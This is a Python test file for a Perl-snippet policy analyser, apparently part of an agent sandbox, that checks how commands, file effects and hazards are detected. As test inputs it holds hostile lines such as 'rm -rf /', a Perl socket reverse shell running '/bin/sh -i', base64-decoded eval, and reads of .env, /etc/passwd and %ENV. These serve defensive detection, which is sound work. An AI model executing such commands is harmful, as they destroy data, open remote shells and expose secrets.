import pytest
from hypothesis import given
from hypothesis import strategies as st

from runner.policy.languages import perl
from runner.policy.languages.doing import Doing


def does(text: str) -> Doing:
    return perl.read(text, cwd="/w", home="/home/agent")


ORDINARY = """
print 'ok'
s/ +$//
s{a/b}{c}g; tr/a/b/; y/a-z/A-Z/
print if /foo/ && !/bar/
print "$1\\n" while /(\\d+)/g
chomp; my ($x, $y) = split /,/, $_; $s{$x} += $y; END { print "$_ $s{$_}\\n" for sort keys %s }
my @a = map { $_ * 2 } grep { /x/ } split /,/; print join(",", @a)
sub f { return $_[0] / 2 } print f(4)
use List::Util qw(sum); print sum(1, 2)
$h{s}++; $h{y} = 1; print $h{q}
print substr($_, 0, index($_, "a/b"))
while (<STDIN>) { print uc }
BEGIN { $/ = undef } print length
printf "%s\\n", join "", reverse split //, "abc"
eval { die "x" }; print $@
""".strip().splitlines()


@pytest.mark.parametrize("text", ORDINARY)
def test_working_on_text_is_ordinary(text: str) -> None:
    doing = does(text.replace("\\n", "\n"))
    assert doing.effects.opaque is None, doing.effects.opaque
    assert not doing.effects.hazards
    assert not doing.commands


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("system('rm -rf /')", "rm -rf /"),
        ('exec "/bin/sh"', "/bin/sh"),
        ("print `id`", "id"),
        ("print qx(id)", "id"),
        ("system 'rm', '-rf', '/'", "'rm' '-rf' '/'"),
        ("open(F, '|rm x')", "rm x"),
        ("open(my $f, '-|', 'id')", "id"),
        ("open F, 'id|'", "id"),
    ],
)
def test_commands_are_handed_over_to_be_judged(text: str, command: str) -> None:
    assert command in does(text).commands


@pytest.mark.parametrize(
    ("text", "field", "path"),
    [
        ("unlink 'a', 'b'", "deletes", "/w/b"),
        ("open(F, '>a')", "writes", "/w/a"),
        ("open(my $f, '>>', 'a')", "writes", "/w/a"),
        ("open(F, '<.env')", "reads", "/w/.env"),
        ("open(F, '.env')", "reads", "/w/.env"),
        ("mkdir 'd'", "writes", "/w/d"),
        ("rename 'a', 'b'", "deletes", "/w/a"),
        ("f('/etc/passwd'); sub f {}", "reads", "/etc/passwd"),
        ("do './x.pl'", "executes", "/w/x.pl"),
    ],
)
def test_files_are_found_with_what_is_done_to_them(text: str, field: str, path: str) -> None:
    assert path in getattr(does(text).effects, field)


OPAQUE = """
rm -rf /
frobnicate(1)
eval $x
eval "sys" . "tem('x')" . $y
s/x/system("y")/e
s/(.)/$h{$1}/ge
/(?{ system("x") })/
print "@{[ system('x') ]}"
print "${\\ system('x')}"
&$x("y")
unlink $x
unlink glob "*.o"
system $x
open(F, $x)
print <<EOT
syscall 1
s/a
print 'x
q(a
""".strip().splitlines()


@pytest.mark.parametrize("text", OPAQUE)
def test_what_cannot_be_told_is_opaque(text: str) -> None:
    assert does(text).effects.opaque is not None


def test_a_shell_on_a_socket_is_named() -> None:
    text = "use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(1,inet_aton('h')));exec('/bin/sh -i');"
    assert "reverse-shell" in does(text).effects.hazards
    assert "obfuscated" in does("use MIME::Base64; eval decode_base64('x')").effects.hazards
    assert "private" in does("print %ENV").effects.hazards


@given(st.text(alphabet="abqsy{}()[]<>/\\'\"`$@%&;=~-> \n#e", max_size=80))
def test_any_text_is_read_and_never_only_reads(text: str) -> None:
    assert not does(text).effects.only_reads


@given(st.sampled_from(ORDINARY), st.sampled_from(OPAQUE))
def test_nothing_ordinary_hides_something_opaque(before: str, after: str) -> None:
    assert does(f"{before};\n{after}".replace("\\n", "\n")).effects.opaque is not None
